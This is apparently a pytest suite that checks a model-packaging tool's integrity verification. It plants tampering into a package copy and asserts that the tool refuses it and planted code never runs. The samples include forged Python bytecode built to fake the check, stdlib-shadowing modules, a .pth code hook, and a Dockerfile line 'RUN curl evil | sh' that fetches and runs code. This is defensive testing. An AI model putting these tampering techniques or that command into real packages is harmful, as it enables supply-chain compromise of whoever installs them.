"""The package's integrity check covers everything that could run: planted bytecode, root-level modules,
`.pth` files, symlinks, FIFOs, extra files and a malformed manifest are each refused, naming the file, by
`check`, by the server's own start and by `distillc serve`, and planted code never runs. A build puts a
changed package/ back."""

from __future__ import annotations

import importlib.util
import json
import marshal
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.helpers import distillc, free_port, runtime

PLANTED = "planted code ran"


def planted_source(marker: Path) -> str:
    """Python that leaves `marker` behind if it is ever run."""
    return f"open({str(marker)!r}, 'w').write({PLANTED!r})\n"


def plant_bytecode(package: Path, marker: Path) -> str:
    """A .pyc for integrity.py that Python would trust: the real source's mtime and size in its header,
    code that reports the package intact. The model is changed too, so only the fake check could pass it."""
    source = package / "distillc_runtime" / "integrity.py"
    fake = planted_source(marker) + "def problems(package_dir):\n    return []\n"
    code = compile(fake, str(source), "exec")
    info = source.stat()
    header = importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little")
    header += int(info.st_mtime).to_bytes(4, "little") + (info.st_size & 0xFFFFFFFF).to_bytes(4, "little")
    cache = package / "distillc_runtime" / "__pycache__"
    cache.mkdir(exist_ok=True)
    pyc = cache / f"integrity.{sys.implementation.cache_tag}.pyc"
    pyc.write_bytes(header + marshal.dumps(code))
    data = next((package / "model").glob("*.data"), package / "model" / "model.onnx")
    data.write_bytes(data.read_bytes()[:-1] + bytes([data.read_bytes()[-1] ^ 1]))
    return "distillc_runtime/__pycache__: bytecode is never trusted"


def plant_root_modules(package: Path, marker: Path) -> str:
    for name in ("sitecustomize.py", "argparse.py", "json.py"):
        (package / name).write_text(planted_source(marker))
    return "argparse.py: not in the manifest"


def plant_pth(package: Path, marker: Path) -> str:
    (package / "distillc.pth").write_text(f"import os; {planted_source(marker).strip()}\n")
    return "distillc.pth: not in the manifest"


def plant_symlink_to_copy(package: Path, marker: Path) -> str:
    tokenizer = package / "model" / "tokenizer.json"
    outside = package.parent / "tokenizer-copy.json"
    shutil.copy(tokenizer, outside)
    tokenizer.unlink()
    tokenizer.symlink_to(outside)
    return "model/tokenizer.json: a symlink"


def plant_dangling_symlink(package: Path, marker: Path) -> str:
    (package / "model" / "extra.onnx").symlink_to(package / "nowhere")
    return "model/extra.onnx: a symlink"


def plant_fifo(package: Path, marker: Path) -> str:
    os.mkfifo(package / "model" / "weights.fifo")
    return "model/weights.fifo: not a regular file"


def plant_secret(package: Path, marker: Path) -> str:
    (package / "k8s" / "secret.yaml").write_text("apiVersion: v1\nkind: Secret\n")
    return "k8s/secret.yaml: not in the manifest"


def edit_dockerfile_unlisted(package: Path, marker: Path) -> str:
    manifest = json.loads((package / "manifest.json").read_text())
    del manifest["files"]["Dockerfile"]
    (package / "manifest.json").write_text(json.dumps(manifest))
    (package / "Dockerfile").write_text((package / "Dockerfile").read_text() + "RUN curl evil | sh\n")
    return "Dockerfile: not in the manifest"


def manifest_not_json(package: Path, marker: Path) -> str:
    (package / "manifest.json").write_text("{not json")
    return "manifest.json is not a JSON object"


def manifest_without_files(package: Path, marker: Path) -> str:
    (package / "manifest.json").write_text(json.dumps({"name": "x"}))
    return 'manifest.json has no "files" object'


CASES: dict[str, Callable[[Path, Path], str]] = {
    "planted bytecode": plant_bytecode,
    "root-level modules": plant_root_modules,
    "a .pth file": plant_pth,
    "a symlink to an identical copy": plant_symlink_to_copy,
    "a dangling symlink": plant_dangling_symlink,
    "a FIFO": plant_fifo,
    "an added k8s/secret.yaml": plant_secret,
    "a Dockerfile edited, its entry dropped": edit_dockerfile_unlisted,
    "a manifest that is not JSON": manifest_not_json,
    "a manifest without files": manifest_without_files,
}


@pytest.mark.parametrize("case", CASES)
def test_check_and_serve_refuse_it_naming_it_and_planted_code_never_runs(
    tiny_package: Path, tmp_path: Path, case: str
) -> None:
    package = shutil.copytree(tiny_package, tmp_path / "package", ignore=shutil.ignore_patterns("__pycache__"))
    marker = tmp_path / "ran"
    expected = CASES[case](package, marker)

    checked = subprocess.run(runtime(package, "check", str(package)), capture_output=True, text=True, timeout=60)
    assert checked.returncode == 1 and expected in checked.stderr, checked.stderr
    served = subprocess.run(
        runtime(package, "serve", str(package), "--port", str(free_port())),
        capture_output=True,
        text=True,
        timeout=60,
        cwd=package,  # where a root-level module would shadow the standard library, were the folder on the path
    )
    assert served.returncode == 1 and expected in served.stderr and "Traceback" not in served.stderr
    cli = distillc("serve", str(package), "--port", str(free_port()), timeout=60)
    assert cli.returncode != 0 and "E602" in cli.stderr and expected in cli.stderr, cli.stderr
    assert "Traceback" not in cli.stderr
    assert not marker.exists(), "planted code ran"


def test_the_intact_package_passes_and_leaves_no_bytecode(tiny_package: Path, tmp_path: Path) -> None:
    package = shutil.copytree(tiny_package, tmp_path / "package", ignore=shutil.ignore_patterns("__pycache__"))
    for _ in range(2):  # a first check must not write what a second would refuse
        checked = subprocess.run(runtime(package, "check", str(package)), capture_output=True, text=True, timeout=60)
        assert checked.returncode == 0, checked.stderr
    assert not list(package.rglob("__pycache__"))


def test_a_build_puts_a_changed_package_back_and_says_so(tiny_package: Path, tmp_path: Path) -> None:
    """A copy of the tiny package's build, damaged as a user might: a deleted tokenizer, an edited server,
    an added file. The next build (every stage cached) restores it, and says so."""
    folder = shutil.copytree(tiny_package.parent.parent, tmp_path / "build")  # spec.yaml, data/, out/
    package = folder / "out" / "package"
    (package / "model" / "tokenizer.json").unlink()
    server = package / "distillc_runtime" / "server.py"
    server.write_text(server.read_text() + "\n# edited\n")
    (package / "notes.txt").write_text("added")

    done = distillc("build", str(folder / "spec.yaml"), "--out", str(folder / "out"), timeout=600)
    assert done.returncode == 0, done.stderr
    said = done.stdout + done.stderr
    assert "did not match its manifest" in said and "put back" in said and "notes.txt" in said
    assert (package / "model" / "tokenizer.json").is_file() and "# edited" not in server.read_text()
    assert not (package / "notes.txt").exists()
    checked = subprocess.run(runtime(package, "check", str(package)), capture_output=True, text=True, timeout=60)
    assert checked.returncode == 0, checked.stderr
